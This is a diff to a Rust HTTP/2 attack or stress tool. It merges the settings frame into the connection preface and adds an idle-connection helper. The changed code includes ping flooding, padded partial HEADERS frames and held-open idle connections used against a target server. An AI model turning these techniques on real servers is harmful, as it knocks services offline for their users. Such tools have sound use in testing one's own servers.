@@ -83,8 +83,8 @@ impl Attack {
     }
 }
 
-const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-const SETTINGS: [u8; 9] = [0, 0, 0, 4, 0, 0, 0, 0, 0];
+/// What every connection begins with: the preface, and settings that set nothing.
+pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
 const SETTINGS_TYPE: u8 = 4;
 const PING_TYPE: u8 = 6;
 const ACK: u8 = 1;
@@ -121,7 +121,6 @@ async fn creep(target: &Target, number: usize) -> io::Result<Infallible> {
     let mut bytes = PREFACE.to_vec();
     if number.is_multiple_of(2) {
         stream.write_all(PREFACE).await?;
-        stream.write_all(&SETTINGS).await?;
         bytes = vec![0, 0, 100, 1, 4, 0, 0, 0, 1];
         bytes.resize(60, 0x82);
     }
@@ -134,9 +133,17 @@ async fn creep(target: &Target, number: usize) -> io::Result<Infallible> {
 }
 
 async fn idle(target: &Target, number: usize) -> io::Result<Infallible> {
-    let mut stream = connect(target, number).await?;
+    answer_pings(connect(target, number).await?).await
+}
+
+/// A connection that is in order and does nothing, until the server ends it.
+pub(crate) async fn stay_idle(address: String) {
+    let stream = TcpStream::connect(address).await.expect("it listens");
+    let Err(_ended) = answer_pings(stream).await;
+}
+
+async fn answer_pings(mut stream: TcpStream) -> io::Result<Infallible> {
     stream.write_all(PREFACE).await?;
-    stream.write_all(&SETTINGS).await?;
     loop {
         let mut head = [0; 9];
         stream.read_exact(&mut head).await?;
@@ -166,7 +173,6 @@ async fn ping(target: &Target, number: usize) -> io::Result<Infallible> {
     let stream = connect(target, number).await?;
     let (mut reading, mut writing) = stream.into_split();
     writing.write_all(PREFACE).await?;
-    writing.write_all(&SETTINGS).await?;
     let pings = [[0, 0, 8, PING_TYPE, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8]; 100].concat();
     let (mut sink, mut nothing) = (io::sink(), [0; 65_536]);
     loop {
